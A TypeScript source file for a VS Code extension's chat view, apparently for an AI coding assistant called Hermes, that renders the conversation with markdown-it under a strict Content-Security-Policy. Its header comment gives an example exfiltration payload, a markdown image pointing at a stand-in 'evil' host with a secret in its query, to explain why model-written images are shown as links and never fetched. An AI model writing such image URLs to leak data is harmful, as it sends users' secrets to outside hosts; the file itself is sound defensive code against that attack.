// The chat view's HTML: the conversation rendered with markdown-it, inside a page whose
// Content-Security-Policy allows the extension's own script (by nonce) and style, and images only
// from the extension's own resources (the webview's cspSource) and data: URLs; nothing else is
// loaded. What the model writes is hostile: an image it writes (`![x](https://evil/?q=secret)`,
// reference-style too) would send the words in its URL out as soon as the view showed it, so images
// are rendered as links the person can click (opened by VS Code, which asks first), never fetched;
// HTML in the markdown is shown as text, not rendered. No vscode import.

import MarkdownIt from 'markdown-it';

import type { ChatItem } from './chatModel';

const md = markdown(false);

/**
 * markdown is the chat's markdown-it: an image is a link to its URL, its words the alt text (or the
 * URL when there is none); inside a link (a badge) it is the alt text alone, as links do not nest;
 * only http(s) URLs become links (a data: or relative URL is left as words). Raw HTML is shown as
 * text even with html on: a model's <img src=...> never renders.
 */
export function markdown(html: boolean): MarkdownIt {
	const m = new MarkdownIt({ html, linkify: true, breaks: false });
	m.renderer.rules.image = (tokens, idx, options, env, self) => {
		const token = tokens[idx];
		const src = token.attrGet('src') ?? '';
		const alt = self.renderInlineAsText(token.children ?? [], options, env);
		const text = `🖼 ${escapeHtml(alt || src)}`;
		if (insideLink(tokens, idx) || !/^https?:/i.test(src)) {
			return text;
		}
		return `<a class="image-link" href="${escapeHtml(src)}" title="${escapeHtml(src)}">${text}</a>`;
	};
	m.renderer.rules.html_inline = (tokens, idx) => escapeHtml(tokens[idx].content);
	m.renderer.rules.html_block = (tokens, idx) => `<p>${escapeHtml(tokens[idx].content)}</p>`;
	return m;
}

/** insideLink reports whether the inline token at idx lies between a link_open and its link_close. */
function insideLink(tokens: readonly { type: string }[], idx: number): boolean {
	let depth = 0;
	for (let i = 0; i < idx; i++) {
		if (tokens[i].type === 'link_open') {
			depth++;
		} else if (tokens[i].type === 'link_close') {
			depth--;
		}
	}
	return depth > 0;
}

/**
 * csp is the page's Content-Security-Policy: nothing by default; images from the webview's own
 * resources and data: URLs (nothing remote); the extension's style; its one script, by nonce.
 */
export function csp(nonce: string, cspSource: string): string {
	return `default-src 'none'; img-src ${cspSource} data:; style-src ${cspSource}; script-src 'nonce-${nonce}';`;
}

/** escapeHtml escapes text for HTML. */
export function escapeHtml(s: string): string {
	return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
}

/** renderItem is one conversation item as HTML. */
export function renderItem(item: ChatItem): string {
	switch (item.kind) {
		case 'you':
			return `<div class="msg you"><div class="who">You</div>${md.render(item.text)}</div>`;
		case 'answer':
			return `<div class="msg answer"><div class="who">Hermes</div>${md.render(item.text)}</div>`;
		case 'tool': {
			const mark = !item.done ? '⋯' : item.ok ? '✓' : '✗';
			const line = `<span class="mark">${mark}</span> <code>${escapeHtml(item.line)}</code>`;
			return item.output
				? `<details class="tool"><summary>${line}</summary><pre>${escapeHtml(item.output)}</pre></details>`
				: `<div class="tool">${line}</div>`;
		}
		case 'approval': {
			const warning = item.warning ? `<div class="warning">⚠ ${escapeHtml(item.warning)}</div>` : '';
			const answer = item.decision
				? `<span class="decided">${escapeHtml(item.decision)}</span>`
				: ['deny:Deny', 'once:Allow once', 'session:Allow for session']
						.map((d) => {
							const [decision, title] = d.split(':');
							return `<button data-approval="${escapeHtml(item.id)}" data-decision="${decision}">${title}</button>`;
						})
						.join(' ');
			return `<div class="approval">⏸ ${escapeHtml(item.summary)} ${answer}${warning}</div>`;
		}
		case 'diff':
			return `<details class="diff"><summary>diff</summary><pre>${escapeHtml(item.text)}</pre></details>`;
		case 'end':
			return `<div class="end">${escapeHtml(item.line)}</div>`;
	}
}

/** renderItems is the whole conversation as HTML. */
export function renderItems(items: readonly ChatItem[]): string {
	return items.map(renderItem).join('\n');
}

/** page is the view's document: a strict CSP, the header, the conversation and the input box. */
export function page(nonce: string, cspSource: string, scriptUri: string, styleUri: string): string {
	return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="UTF-8">
<meta http-equiv="Content-Security-Policy" content="${csp(nonce, cspSource)}">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<link rel="stylesheet" href="${styleUri}">
<title>Hermes</title>
</head>
<body>
<div id="header"><span id="info">Hermes</span>
<span class="buttons"><button id="threads" title="Resume a past thread">Threads</button><button id="model" title="Model and reasoning effort">Model</button><button id="new" title="The next prompt starts a new thread">New</button></span></div>
<div id="log" aria-live="polite"></div>
<form id="form"><textarea id="input" rows="3" placeholder="Ask Hermes (Enter sends, Shift+Enter for a new line; while a turn runs, it steers it)"></textarea></form>
<script nonce="${nonce}" src="${scriptUri}"></script>
</body>
</html>`;
}
